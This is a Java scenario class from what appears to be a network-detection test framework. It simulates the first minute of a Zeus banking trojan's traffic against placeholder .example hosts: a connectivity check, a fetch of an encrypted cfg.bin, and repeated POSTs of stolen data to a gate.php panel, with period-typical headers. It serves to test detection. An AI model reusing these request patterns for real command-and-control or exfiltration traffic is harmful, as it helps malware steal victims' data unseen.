package wolfhound.scenarios;

import wolfhound.model.Behaviour;
import wolfhound.scenarios.stage.Actor;
import wolfhound.scenarios.stage.Answer;
import wolfhound.scenarios.stage.Ask;
import wolfhound.scenarios.stage.Platform;
import wolfhound.scenarios.stage.Stage;
import wolfhound.scenarios.stage.Web;

/// A banking trojan's first minute: is there an internet, fetch the encrypted configuration, hand
/// over what was stolen.
final class Zeus extends Guilty {
    private static final String BROWSER_OF_OLD =
            "User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Trident/4.0)";

    Zeus() {
        super(
                "zeus",
                "Zeus",
                "A laptop fetches an encrypted configuration and posts what it stole",
                "The request shape convicts: the panel lies on a web server that others browse");
    }

    @Override
    public void stage(Stage stage) {
        Actor laptop = stage.workstation("laptop", Platform.WINDOWS);
        laptop.joins().isInfected(Behaviour.CALLBACK, Behaviour.THEFT).pauses(3);

        Web.to(laptop, "search.example")
                .asks(connectivity(), Answer.ok("text/html", "<html>ok"))
                .closes();
        laptop.pauses(2);

        String shop = "www.flower-shop.example";
        String folder = "/images/" + stage.word(5);
        Web.to(laptop, shop)
                .asks(
                        config(folder),
                        Answer.ok(
                                "application/octet-stream",
                                stage.noise(9_000 + stage.between(0, 9_000))))
                .closes();
        laptop.pauses(4);

        int reports = stage.between(3, 6);
        for (int i = 0; i < reports; i++) {
            Ask report = report(folder, stage.noise(stage.between(280, 2_400)));
            Web.to(laptop, shop)
                    .asks(report, Answer.ok("text/html", stage.noise(stage.between(44, 120))))
                    .closes();
            laptop.pauses(12);
        }
    }

    private static Ask connectivity() {
        return Ask.get("/webhp").with(BROWSER_OF_OLD, "Host", "Connection: Close");
    }

    private static Ask config(String folder) {
        return Ask.get(folder + "/cfg.bin")
                .with(
                        "Accept: */*",
                        BROWSER_OF_OLD,
                        "Host",
                        "Connection: Close",
                        "Cache-Control: no-cache");
    }

    private static Ask report(String folder, byte[] loot) {
        return Ask.post(folder + "/gate.php", loot)
                .with("Accept: */*", BROWSER_OF_OLD, "Host", "Content-Length")
                .with("Connection: Keep-Alive", "Cache-Control: no-cache");
    }
}
